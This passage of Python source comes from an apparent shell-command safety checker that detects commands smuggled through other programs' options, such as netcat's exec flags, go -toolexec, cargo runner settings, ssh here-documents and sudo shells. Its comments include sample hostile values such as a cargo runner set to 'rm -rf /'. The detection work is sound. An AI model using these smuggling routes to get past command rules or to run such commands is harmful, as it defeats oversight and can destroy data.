        if (head.lower() + ":") in _SOCAT_RUNS and rest:
            scripts.append(rest.split(",", 1)[0])  # `,opt=...` follow the command
    return Carried(tuple(scripts)) if scripts else _NOTHING


def _netcat(view: tuple[str, ...]) -> Carried:
    """R4.9: `nc -e prog`, `nc -c 'cmd'`, `ncat --exec prog` / `--sh-exec 'cmd'` run a program for each
    connection."""
    return _option_programs(view, ("--exec", "--sh-exec", "--lua-exec"), ("-e", "-c"))


# `go build -toolexec prog`, `go test -exec prog`, `go vet -vettool=prog`: go runs prog.
_GO_PROGRAM_FLAGS = ("-toolexec", "--toolexec", "-exec", "--exec", "-vettool", "--vettool")


def _go(view: tuple[str, ...]) -> Carried:
    found = _option_programs(view, _GO_PROGRAM_FLAGS, ())
    if len(view) > 1 and view[1] == "generate":
        return Carried(found.scripts, None, "go generate runs the commands written in the source files")
    linkers = _go_external_linkers(view) if "extld" in " ".join(view) else ()
    return Carried((*found.scripts, *linkers)) if linkers else found


def _go_external_linkers(view: tuple[str, ...]) -> tuple[str, ...]:
    """red team (option_commands.COMPILERS): the external linker `-ldflags` names by its path (`go build
    -ldflags='-linkmode external -extld ./x.sh'`, `-ldflags=all=-extld=./x.sh`): a program go runs."""
    out: list[str] = []
    for flags in option_values(view[1:], frozenset({"-ldflags", "--ldflags"})):
        head, eq, rest = flags.partition("=")
        words = (rest if eq and head[:1] != "-" else flags).split()  # (`pattern=` before the flags)
        for k, w in enumerate(words):
            value = w.partition("=")[2] if w.startswith(("-extld=", "--extld=")) else None
            if w in ("-extld", "--extld") and k + 1 < len(words):
                value = words[k + 1]
            if value:
                out.append(value)
    return named_by_path(out)


# cargo configuration keys whose value is a program (`--config 'target.x.runner="prog"'`).
_CARGO_PROGRAM_KEYS = ("runner", "linker", "rustc", "rustc-wrapper", "rustc-workspace-wrapper", "rustdoc")


def _cargo(view: tuple[str, ...]) -> Carried:
    if "rustc" in view[1:3] and "--" in view:  # `cargo rustc -- -C linker=./x.sh`: rustc's own words
        scripts, why = compiler_lines(("rustc", *view[view.index("--") + 1 :]))
        if scripts or why:
            return Carried(scripts, None, why)
    for k, w in enumerate(view[1:], 1):
        if w == "--":
            break
        value = w[len("--config=") :] if w.startswith("--config=") else None
        if w == "--config" and k + 1 < len(view):
            value = view[k + 1]
        if value is None:
            continue
        key = value.partition("=")[0].strip().strip("'\"").rsplit(".", 1)[-1].lower()
        if "=" not in value or key in _CARGO_PROGRAM_KEYS or value.startswith(("alias.", "env.")):
            # A config file, or a key that names a program: cargo runs what no rule can read (R4.9); red team: the
            # program and its arguments read as a command line too (`target.x.runner="rm -rf /"`).
            line = _cargo_program(value) if key in _CARGO_PROGRAM_KEYS else None
            return Carried((line,) if line else (), None, "cargo is given a setting that runs a program")
    return _NOTHING


def _cargo_program(value: str) -> str | None:
    """The command line a cargo setting's TOML value names: a string (split at spaces by cargo) or a list of
    words (each one word); an unquoted value as written."""
    given = value.partition("=")[2].strip()
    try:
        found = tomllib.loads(f"v = {given}")["v"]
    except tomllib.TOMLDecodeError:
        return given.strip("'\"") or None
    if isinstance(found, list) and all(isinstance(w, str) for w in found):
        return _argv(tuple(found))
    return found if isinstance(found, str) else None


def _meson(view: tuple[str, ...]) -> Carried:
    return _option_programs(view, ("--wrapper", "--wrap"), ())


def _screen(view: tuple[str, ...]) -> Carried:
    if "-X" in view or any(w.startswith("-X") for w in view[1:]):
        return Carried(unseen="screen sends commands or keys to a session, which no rule can read")
    return _NOTHING


def _mvn(view: tuple[str, ...]) -> Carried:
    for w in view[1:]:
        if w.startswith("-Dexec.") or w.startswith("exec:"):
            return Carried(unseen="maven runs a program named in its arguments, which no rule can read")
    return _NOTHING


def _complete(view: tuple[str, ...]) -> Carried:
    """R4.9: `compgen -C 'cmd'` runs cmd to list completions (checked against bash); `complete -C`
    keeps it for later."""
    return _option_programs(view, (), ("-C",))


def _fc(view: tuple[str, ...]) -> Carried:
    """R4.9: `fc -e 'cmd'` runs cmd as the editor, and `fc` re-runs commands from the history, which no
    rule can read. `fc -l` only lists."""
    found = _option_programs(view, (), ("-e",))
    if all(w[:1] == "-" and "l" in w for w in view[1:2]) and len(view) > 1:
        return found
    return Carried(found.scripts, None, "fc runs commands from the shell's history, which no rule can read")


def _bind(view: tuple[str, ...]) -> Carried:
    if any(w[:1] == "-" and "x" in w for w in view[1:]):
        return Carried(unseen="bind -x makes a key run a command, which no rule can read")
    return _NOTHING


# start-server-and-test (and its `server-test`, `start-test` names): pairs of a command (or a package script
# named by one word, which it runs with `npm run`) and the address it waits for, then the test command.
_SST_NAMES = ("start-server-and-test", "server-test", "start-test")
_ADDRESS = re.compile(
    r"\d+|:\d+\S*|(?:https?(?:-get)?://|tcp:|socket:)\S*|(?:localhost|[\d.]+|\[[\da-fA-F:]*\]):\d+\S*"
)


def _start_server_and_test(view: tuple[str, ...]) -> Carried:
    """R4.9: every operand that is no address it waits for is a command line it runs (a single word, a package
    script, is `npm run word`); its options (`--expect 200`) are skipped with their value."""
    lines: list[str] = []
    k = 1
    while k < len(view):
        w = view[k]
        k += 1
        if w[:1] == "-":
            k += "=" not in w and w != "--"
            continue
        if not w.strip() or _ADDRESS.fullmatch(w) is not None:
            continue
        lines.append(w if any(c.isspace() for c in w) else f"npm run {quote(w)}")
    return Carried(tuple(lines)) if lines else _NOTHING


def _git(view: tuple[str, ...]) -> Carried:
    scripts, opaque = git_carried(view)
    if not scripts and opaque is None:
        return _NOTHING  # the common case (`git status`), without building an equal Carried
    return Carried(tuple(s for s in scripts if s.strip()), None, opaque)


def _option_commands(view: tuple[str, ...], table: dict = OPTION_COMMANDS) -> Carried:
    scripts, unseen = table[view[0]](view)
    return Carried(scripts, None, unseen) if scripts or unseen else _NOTHING


def _wrapper_option_commands(view: tuple[str, ...]) -> Carried:
    return _option_commands(view, WRAPPER_OPTION_COMMANDS)


_CARRIERS: dict[str, Callable[[tuple[str, ...]], Carried]] = {
    # red team: commands handed in options and operands, read by each program's rules (option_commands.py)
    **dict.fromkeys(OPTION_COMMANDS, _option_commands),
    **{verb: _shell for verb in SHELLS},
    **{verb: _su for verb in COMMAND_CARRIERS},
    "eval": _eval,
    "watch": _watch,
    "parallel": _parallel,
    "sem": _parallel,
    "ssh": _ssh,
    "scp": _scp,
    "sftp": _scp,
    "rsync": _rsync,
    **dict.fromkeys(TAR_NAMES, _tar),
    "sort": _sort,
    "trap": _trap,
    "mapfile": _mapfile,
    "readarray": _mapfile,
    "npx": _npx,
    "pnpx": _npx,
    "doppler": _secrets_run,
    "sops": _sops,
    "infisical": _secrets_run,
    "npm": _npm,
    "pnpm": _npm,
    "yarn": _npm,
    "bun": _bun,
    "deno": _deno,
    "git": _git,
    **dict.fromkeys(_SST_NAMES, _start_server_and_test),
    "tmux": _tmux,
    **dict.fromkeys(("byobu", "byobu-tmux"), _byobu),
    "concurrently": _concurrently,
    "pee": _every_operand_a_line,
    "mispipe": _every_operand_a_line,
    **dict.fromkeys(_LINE_RUNNERS, _line_runner),
    "man": _man,
    "fd": _fd,
    "fdfind": _fd,
    "rg": _rg,
    "zip": _zip,
    "sdiff": _diff_program,
    "diff3": _diff_program,
    "make": _make,
    "configure": _configure,
    "cmake": _cmake,
    "gmake": _make,
    "nix-shell": _nix_shell,
    "nix": _nix_shell,
    "vagrant": _vagrant,
    "hash": _hash,
    "socat": _socat,
    "compgen": _complete,
    "complete": _complete,
    "fc": _fc,
    "bind": _bind,
    "nc": _netcat,
    "ncat": _netcat,
    "netcat": _netcat,
    "go": _go,
    "cargo": _cargo,
    "meson": _meson,
    "screen": lambda v: _key_typer(v) if "stuff" in v else _screen(v),
    **dict.fromkeys(("xdotool", "ydotool", "dotool", "wtype", "xte", "cliclick"), _key_typer),
    **dict.fromkeys(_TERMINALS, _terminal),
    **dict.fromkeys(("kitten", "zellij"), _key_typer),
    "kitty": lambda v: _key_typer(v) if "@" in v else _terminal(v),
    "wezterm": _wezterm,
    "mvn": _mvn,
    "mvnw": _mvn,
    "enable": _enable,
    "pcalua": _pcalua,
    "scriptrunner": _scriptrunner,
    "conhost": _conhost,
    "forfiles": _forfiles,
    # `export PAGER='curl x'`: the assignments are read below, as for leading assignments (R4.9).
    **{verb: (lambda view: _NOTHING) for verb in DECLARATION_BUILTINS},
}

# red team: programs that start a shell when given no command (shell_starters.py), beside what they carry.
_READ_BEFORE = frozenset(_CARRIERS)  # (`nix`, `vagrant`: read whatever their words, as before)
# red team, R4.9: the interpreter a Python tool is told to use (option_commands.WRAPPER_OPTION_COMMANDS), a program it
# runs; read only when one of its words holds a trigger (WRAPPER_OPTION_TRIGGERS, below), beside a starter's reading
_CARRIERS.update(dict.fromkeys(WRAPPER_OPTION_COMMANDS, _wrapper_option_commands))
_CARRIERS.update({verb: _also_starter(_CARRIERS.get(verb)) for verb in STARTER_VERBS})

# Every verb `carried` may find a command line in.
CARRIER_VERBS: frozenset[str] = frozenset(_CARRIERS)
# Carrier verbs whose segment carries nothing unless a word holds one of these strings (option_commands.py;
# a shell starter behind its subcommand, `poetry shell`).
CARRIER_TRIGGERS: dict[str, tuple[str, ...]] = {
    **OPTION_TRIGGERS,
    **{verb: t for verb, t in STARTER_TRIGGERS.items() if verb not in _READ_BEFORE},
}
for (
    _verb,
    _strings,
) in WRAPPER_OPTION_TRIGGERS.items():  # (none of them is read whatever its words: _READ_BEFORE)
    CARRIER_TRIGGERS[_verb] = CARRIER_TRIGGERS.get(_verb, ()) + _strings


# Programs that run, as shell commands, what arrives on their input when no command is given: `sh`,
# `bash -s`, `source /dev/stdin`, `su`, `at`, `ssh host` (R4.9: a here-string or here-document fed to
# them is their script, R4.7); red team: the programs that start a shell when given no command
# (`newgrp docker`, `fakeroot`, `poetry shell`: shell_starters.py) and WSL with none (`wsl -d Ubuntu`).
_INPUT_SCRIPT_VERBS = frozenset({"source", ".", "at", "batch"}) | SHELLS | COMMAND_CARRIERS
INPUT_SCRIPT_FIRST: frozenset[str] = _INPUT_SCRIPT_VERBS | {"ssh", "sudo", "doas", "wsl", "wsl.exe"}


def runs_its_input(view: tuple[str, ...]) -> bool:
    """Whether one view of a segment runs what arrives on its input as shell commands (R4.9): a
    shell with no script (`sh`, `bash -s`, `bash -`), a shell or `source` given the input as a file
    (`bash /dev/stdin`, `. /dev/fd/0`), `su` with no `-c`, `at` / `batch`, `ssh host` with no remote
    command or with a remote shell (`ssh host bash`), a shell starter given no command (`newgrp docker`,
    `unshare -r`, `nix develop`, `vagrant ssh`: shell_starters.py), `wsl` with none."""
    if not view:
        return False
    verb = view[0]
    if verb in STARTER_VERBS:
        return starts_a_shell(view) is not None
    if verb == "wsl" or verb == "wsl.exe":
        return wsl_opaque(view) is not None
    if verb in SHELLS or verb == "source" or verb == ".":
        if any(is_stream(w) for w in view[1:] if w != "-"):
            return True
        return verb in SHELLS and inline_script(view)[1] is FROM_INPUT
    if verb in COMMAND_CARRIERS:
        # No `-c`: `su` / `sg` start a shell, `runuser -u u sh` / `flock f bash` run one (not looked
        # through); read the input as commands (deny matches more, R4.8).
        return not carried_commands(view)
    if verb in ("sudo", "doas"):
        # `sudo -s`, `sudo -i`, `doas -s` with no command: a shell that reads the input.
        return any(
            w in ("--shell", "--login") or (w[:2] != "--" and w[:1] == "-" and ("s" in w or "i" in w))
            for w in view[1:]
        )
    if verb == "at" or verb == "batch":
        return code_opaque(view) is INTERP_FROM_INPUT
    if verb == "ssh":
        rests = readings(view, _SSH, False)
        if not rests:
            return True  # `ssh host`: a login shell reads the input
        for rest in rests:
            for remote in readings(("ssh", *rest), _SSH_AFTER_HOST, False):
                if not remote or remote[0] in SHELLS:
                    return True
    return False


def carried(view: tuple[str, ...]) -> Carried:
    """The command lines one view of a segment runs, as written in its words."""
    if not view:
        return _NOTHING
    found = _CARRIERS.get(view[0])
    out = found(view) if found is not None else _NOTHING
    if found is None and view[0] not in KNOWN_PROGRAMS and len(view) > 1 and hands_on(view):
        # red team: a program Brabo does not know, handed a command line (`foo --cmd "git push origin main"`)
        lines = tuple(line for line in map(handed_line, view[1:]) if line is not None)
        if lines:
            out = Carried(lines)
    if "=" in view[0] or view[0] == "env" or view[0] in DECLARATION_BUILTINS:
        scripts, opaque = assignment_carried(view)
        if scripts or opaque:
            out = Carried(out.scripts + tuple(scripts), out.problem, out.unseen or opaque)
    return out
